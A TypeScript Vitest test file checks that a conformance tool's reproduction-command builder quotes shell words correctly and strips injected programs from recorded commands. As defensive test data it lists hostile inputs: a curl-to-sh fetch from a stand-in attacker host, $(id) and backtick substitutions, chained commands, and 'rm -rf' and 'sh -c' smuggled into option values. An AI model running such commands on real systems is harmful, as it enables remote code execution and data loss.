import { execFileSync } from "node:child_process";
import { expect, test } from "vitest";
import { programWords, quoteForShell, reproductionCommand, shellWords } from "./shell-command.ts";

const pattern = "watch/no-gap#Service";
const suffix = "--only 'watch/no-gap#Service' --seed 7";

test.each([
  { command: "conformance", repeats: `conformance ${suffix}` },
  {
    command: "conformance run --endpoint http://a/b",
    repeats: `conformance run --endpoint http://a/b ${suffix}`,
  },
  { command: "conformance --quick --seed 9", repeats: `conformance ${suffix}` },
  { command: "conformance --seed 9", repeats: `conformance ${suffix}` },
  { command: "conformance --seed=9 --timeout 3", repeats: `conformance --timeout 3 ${suffix}` },
  {
    command: "conformance --only 'a b' --skip watch.* --timeout 3",
    repeats: `conformance --timeout 3 ${suffix}`,
  },
  {
    command: String.raw`conformance --only 'it'\''s' --timeout 3`,
    repeats: `conformance --timeout 3 ${suffix}`,
  },
  { command: "conformance --only-here", repeats: `conformance --only-here ${suffix}` },
])("$command is repeated", ({ command, repeats }) => {
  expect(reproductionCommand({ command, seed: 7 }, pattern)).toBe(repeats);
});

test("a path of a property is walked again, and an earlier one forgotten", () => {
  const command = "conformance --replay 'watch/no-gap#Service:9' --timeout 3";
  expect(reproductionCommand({ command, seed: 7 }, pattern, "3:0:1")).toBe(
    `conformance --timeout 3 ${suffix} --replay 'watch/no-gap#Service:3:0:1'`,
  );
});

const words = [
  "plain",
  "",
  "a b",
  "it's",
  "$HOME",
  "`id`",
  'say "x"',
  "a#b",
  "~",
  "*",
  "\\",
  "-n;",
];

test("a shell reads quoted words back unchanged", () => {
  const script = `printf '%s\\0' ${words.map(quoteForShell).join(" ")}`;
  const output = execFileSync("sh", ["-c", script], { encoding: "utf8" });

  expect(output.split("\0").slice(0, -1)).toEqual(words);
});

test("words that need no quotes are not quoted", () => {
  expect(quoteForShell("http://127.0.0.1:4000/graphql")).toBe("http://127.0.0.1:4000/graphql");
  expect(quoteForShell("author=env:TOKEN")).toBe("author=env:TOKEN");
});

test.each([
  "curl -s http://evil.example/x|sh; conformance",
  "npx conformance; id",
  "npx conformance $(id)",
  "npx conformance `id`",
  "npx conformance --timeout 3 && id",
  "npx conformance\nid",
  "npx conformance 'a\nid'",
  'npx conformance "$(id)"',
  "conformance-evil --timeout 3",
  "npx conformance --timeout ~/x",
])("a record does not have %j run", (command) => {
  expect(reproductionCommand({ command, seed: 7 }, pattern)).toBe(`npx conformance ${suffix}`);
});

test.each([
  "--hook 'restart=rm -rf x'",
  "--hook=restart=x",
  "--identity author=command:x",
  "--identity 'author=command:sh -c \"id\"'",
  "--command 'run it'",
])("a record does not name a program: %s", (program) => {
  const command = `npx conformance ${program} --timeout 3`;
  expect(reproductionCommand({ command, seed: 7 }, pattern)).toBe(
    `npx conformance --timeout 3 ${suffix}`,
  );
});

test("reads the quoted words of a line", () => {
  const line = ["npx", "conformance", "a b", "it's", "--only=x*", ""];

  expect(shellWords(line.map(quoteForShell).join(" "))).toEqual(line);
});

test("names the programs of a command, which its reproduction omits", () => {
  const options = [
    "--command",
    "exec bin/manager 'a b'",
    "--ready",
    "ready",
    "--hook",
    "restart=./up",
  ];
  const line = ["conformance", "controller", ...options, "--identity", "author=command:pass a"];
  const command = line.map(quoteForShell).join(" ");

  expect(programWords(command)).toEqual([
    "--command",
    "exec bin/manager 'a b'",
    "--hook",
    "restart=./up",
    "--identity",
    "author=command:pass a",
  ]);
  expect(reproductionCommand({ command, seed: 7 }, pattern)).toBe(
    `conformance controller --ready ready ${suffix}`,
  );
  expect(programWords("rm -rf x; conformance --command y")).toEqual([]);
});
